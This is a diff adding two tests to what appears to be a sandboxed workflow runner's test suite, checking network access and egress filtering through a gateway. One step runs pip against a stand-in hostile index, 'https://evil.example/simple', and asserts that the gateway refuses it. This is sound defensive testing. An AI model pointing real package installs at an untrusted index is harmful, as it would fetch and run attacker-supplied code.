@@ -242,3 +242,34 @@ def test_the_doctor_asks_the_model(ground: Ground, model: Stub) -> None:
     model.script = [{"status": 401}]
     refused = ground.program("doctor", "--sandbox", "--json", env=env, code=3)
     assert "refuses the credential (401)" in refused.out
+
+
+def test_an_open_network_besides_the_gateway(ground: Ground, model: Stub) -> None:
+    reach = {"shell": "curl -k -f -sS -m 20 -o /dev/null https://pypi.org/simple/six/"}
+    text = flow({"claude": prompt("ok")}, reach, sandbox={"network": "bridge"})
+    done = run(ground, model, text, code=0)
+    assert "steps can reach the internet" in done.err
+    assert model.seen.requests[0]["headers"]["x-api-key"] == KEY
+
+
+def test_packages_are_installed_through_the_gateway(ground: Ground) -> None:
+    """The real installer against the real registry, in an image that the workflow builds."""
+    ground.repository.commit(
+        {
+            "Dockerfile": "FROM debian:bookworm-slim\nRUN apt-get update && apt-get install -y --no-install-recommends "
+            "ca-certificates git python3-pip && rm -rf /var/lib/apt/lists/*\n"
+        },
+        "an image",
+    )
+    # This machine's own certificates are not in that image; what is tested is the way.
+    install = "pip install -q --disable-pip-version-check --retries 0 --timeout 30 --target lib"
+    trusted = "--trusted-host pypi.org --trusted-host files.pythonhosted.org"
+    steps = [
+        {"shell": f"{install} {trusted} six==1.16.0 && test -f lib/six.py"},
+        {"shell": f"{install} --index-url https://evil.example/simple six", "continue_on_error": True},
+    ]
+    names = ["pypi.org", "files.pythonhosted.org"]
+    sandbox = {"build": {"context": "."}, "network": {"egress": names}}
+    done = ground.run(flow(*steps, sandbox=sandbox, uncommitted="save"), "--json", "--no-merge", code=0)
+    assert [step["status"] for step in done.json["steps"]] == ["success", "tolerated"]
+    assert "the gateway refused a connection to evil.example:443" in done.err
